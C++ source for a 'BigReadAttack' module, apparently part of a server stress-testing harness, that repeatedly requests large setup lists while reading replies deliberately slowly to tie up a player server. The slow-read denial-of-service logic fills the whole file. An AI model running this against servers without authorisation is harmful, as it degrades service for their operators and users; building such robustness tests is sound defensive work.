#include "BigReadAttack.h"

namespace {
constexpr int kReceiveBuffer = 16384;
constexpr size_t kBytesPerTick = 16384; // every 10 ms: 1.6 MB/s
constexpr int64_t kTickNs = 10 * kMs;
constexpr int64_t kMinGapNs = 100 * kMs; // between two requests, when the reply is small
} // namespace

BigReadAttack::BigReadAttack(Context& ctx)
    : ctx_(ctx),
      conn_(ctx.loop, Conn::Callbacks{[this] { onConnected(); }, [this](std::string_view m) { onMessage(m); },
                                      [this] {
                                          if (ctx_.sending()) ++figures_.closedByServer;
                                      },
                                      nullptr}),
      check_("") {}

void BigReadAttack::start() {
    ++figures_.connections;
    figures_.peakOpen = 1;
    conn_.setSource(ctx_.attackSource);
    if (!conn_.open(ctx_.playerAddr, kReceiveBuffer)) ++figures_.closedByServer;
    tick();
}

void BigReadAttack::onConnected() {
    conn_.setReading(false); // reads only as fast as tick() pulls
    request("GETVLA", "", ReplyCheck::Kind::SetupList);
}

void BigReadAttack::request(std::string_view command, std::string_view data, ReplyCheck::Kind kind) {
    std::string m(command);
    m.append(data).push_back('\0');
    conn_.send(m);
    ++figures_.writes;
    ++figures_.messages;
    figures_.bytes += m.size();
    check_.expect(kind);
    lastRequest_ = nowNs();
}

void BigReadAttack::nextRound() {
    figures_.roundsOpen = 0;
    if (!ctx_.sending() || !conn_.isOpen() || check_.setupCount() <= 0) return;
    const int64_t wait = std::max<int64_t>(0, lastRequest_ + kMinGapNs - nowNs());
    ctx_.loop.after(wait, [this] {
        if (!ctx_.sending() || !conn_.isOpen()) return;
        request("GETVLO", std::to_string(check_.setupCount()), ReplyCheck::Kind::Setup);
        figures_.roundsOpen = 1;
    });
}

void BigReadAttack::onMessage(std::string_view m) {
    const std::string_view command = m.substr(0, 6), data = m.size() > 6 ? m.substr(6) : std::string_view();
    if (skipping_) {
        if (command != "VLDONE") return;
        skipping_ = false;
        nextRound();
        return;
    }
    const ReplyCheck::Kind kind = check_.pending();
    const auto r = check_.feed(command, data);
    if (r == ReplyCheck::Result::Pending) return;
    if (kind == ReplyCheck::Kind::Setup) {
        if (r == ReplyCheck::Result::Ok) {
            ++figures_.roundsWhole;
        } else {
            ++figures_.roundsCut;
            // The numbering broke before the end: wait for the closing message.
            skipping_ = command != "VLDONE";
            figures_.roundsOpen = 0;
            if (skipping_) return;
        }
    }
    nextRound();
}

void BigReadAttack::tick() {
    conn_.pull(kBytesPerTick);
    if (conn_.isActive()) ctx_.loop.after(kTickNs, [this] { tick(); });
}
